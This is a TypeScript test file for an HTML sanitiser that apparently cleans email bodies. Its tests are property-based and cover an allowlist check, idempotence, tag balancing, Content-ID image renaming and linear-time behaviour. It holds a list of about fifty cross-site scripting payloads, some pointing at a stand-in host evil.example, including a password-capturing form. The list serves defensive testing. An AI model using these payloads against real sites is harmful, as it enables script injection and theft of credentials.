import fc from "fast-check";
import { expect, test } from "vitest";
import { renamedImages, safeHtml } from "./safe-html.ts";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<a href='https://x.example' onclick='alert(1)'>x</a>",
  '<a href="https://x.example" style="position:fixed;inset:0">x</a>',
  '<div style="background:url(https://evil.example/p.gif)">x</div>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="color:re\\64;behavior:url(#x)">x</div>',
  "<p style=\"font-family:'};x{background:url(//evil.example)'\">x</p>",
  "<style>@import url(https://evil.example/x.css);</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  "<embed src=https://evil.example/x.swf>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=https://evil.example/a.mp3 onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<img srcset="https://evil.example/p 1x">',
  '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>',
  "<body onload=alert(1)>x</body>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<p title="x onmouseover=alert(1) href=javascript:alert(1)">x</p>',
  '<a title="&quot; onclick=&quot;alert(1)" href="https://x.example">x</a>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  "<isindex action=javascript:alert(1) type=image>",
  "<select><option><style></select><img src=x onerror=alert(1)></style>",
  "<<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<blockquote></blockquote></blockquote></div><script>alert(1)</script>",
];
const ALLOWED =
  /^(?:[^<>]|<\/?(?:a|abbr|b|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|font|h[1-6]|hr|i|img|ins|kbd|li|ol|p|pre|q|s|samp|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr)(?: [a-z]+="[^"<>]*")*>)*$/;

/** Attributes as a browser would read them. */
function attributesOf(html: string): [string, string][] {
  const tags = html.match(/<[a-z][^>]*>/g) ?? [];
  return tags.flatMap((tag) =>
    [...tag.matchAll(/ ([a-z]+)="([^"]*)"/g)].map(([, name = "", value = ""]): [string, string] => [name, value]),
  );
}

function expectHarmless(html: string): void {
  expect(html).toMatch(ALLOWED);
  for (const [name, value] of attributesOf(html)) {
    expect(name).not.toMatch(/^on|srcset|background|action|formaction/);
    if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i);
    if (name === "src") expect(value).toMatch(/^(?:https?:\/\/|cid:)/i);
    if (name === "style") expect(value).not.toMatch(/url|expression|import|position|behavior|\\/i);
  }
}

test.each(HOSTILE)("an agent's pasted script never leaves: %s", (hostile) => {
  const safe = safeHtml(hostile);
  expectHarmless(safe);
  expect(safe).not.toContain("evil.example");
});

test("whatever is typed or mutated, what leaves is of the list, closed, and cleaning it again changes nothing", () => {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      "<p>",
      "</p>",
      "<b",
      ">",
      '"',
      "'",
      "<a href=",
      "<img src=",
      "=",
      "&lt;",
      "&",
      "<!--",
      "-->",
      "<td>",
      "</table>",
      "<li>",
    ),
    fc.string({ unit: "binary", maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const safe = safeHtml(pieces.join(""));
      expectHarmless(safe);
      expect(safeHtml(safe)).toBe(safe);
      const open = (safe.match(/<(?!\/|br|hr|img|wbr|col[ >])[a-z]/g) ?? []).length;
      expect((safe.match(/<\//g) ?? []).length).toBe(open);
    }),
    { numRuns: 2_000 },
  );
});

test("a mail as people write it stays as it is", () => {
  const written =
    '<p style="color:#333;font-family:Arial, sans-serif">Hola <b>Lucía</b>,<br>su factura: <a href="https://banco.example/f?a=1&amp;b=2">ver</a></p>' +
    '<ul><li>uno</li><li>dos</li></ul><table border="1"><tr><td colspan="2" align="center">3 &lt; 4 &eacute;</td></tr></table>' +
    '<blockquote style="border-left:1px solid #ccc;padding-left:8px">antes</blockquote><img src="cid:logo@banco" alt="Logo" width="80">';
  expect(safeHtml(written)).toBe(written);
});

test("what is left open is closed, and what closes more than it opened closes nothing outside", () => {
  expect(safeHtml("<div><b>uno")).toBe("<div><b>uno</b></div>");
  expect(safeHtml("uno</div></blockquote>dos")).toBe("unodos");
  expect(safeHtml("<p>uno<p>dos<ul><li>a<li>b</ul>")).toBe("<p>uno</p><p>dos<ul><li>a</li><li>b</li></ul></p>");
});

test("images by Content-ID are called by their files, and those of which there is none are left out", () => {
  const safe = safeHtml(
    '<p><img alt="a" src="cid:a@x"><img src=\'cid:b"><i>\'><img src="https://x.example/p.png"></p>',
  );
  const names: Record<string, string> = { "a@x": "f-1" };
  expect(renamedImages(safe, (id) => names[id] ?? null)).toBe(
    '<p><img alt="a" src="cid:f-1"><img src="https://x.example/p.png"></p>',
  );
});

/** ms; linear time takes a tenth on a busy machine, square time minutes. */
const SURELY_SQUARE_MS = 30_000;

test("half a megabyte of anything is cleaned in linear time", () => {
  for (const bit of ["<", "<a ", "<p>", '<a href="', "&", "<p style='color:", "</b>", "<b>", " x=", "<img src=cid:"]) {
    const started = performance.now();
    safeHtml(bit.repeat(Math.ceil(500_000 / bit.length)));
    expect(performance.now() - started, bit).toBeLessThan(SURELY_SQUARE_MS);
  }
}, 120_000);
